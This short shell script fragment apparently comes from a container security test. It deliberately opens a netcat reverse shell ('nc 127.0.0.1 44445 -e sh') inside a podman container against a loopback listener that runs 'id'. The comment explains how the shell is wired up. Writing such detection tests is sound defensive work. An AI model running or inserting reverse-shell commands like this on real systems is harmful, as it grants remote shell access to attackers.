# A reverse shell in the container: a listener on the container's loopback
# (nc -l -p 44445, started with podman exec -d) sends id and exit to
# `nc 127.0.0.1 44445 -e sh`, started directly by podman exec so that its
# process name is nc; nc dup2s the socket onto fds 0 and 1 and runs sh.
podman exec -d "$CONTAINER" sh -c '{ echo id; echo exit; sleep 1; } | nc -l -p 44445 > /dev/null'
sleep 0.5
podman exec "$CONTAINER" nc 127.0.0.1 44445 -e sh
sleep 1
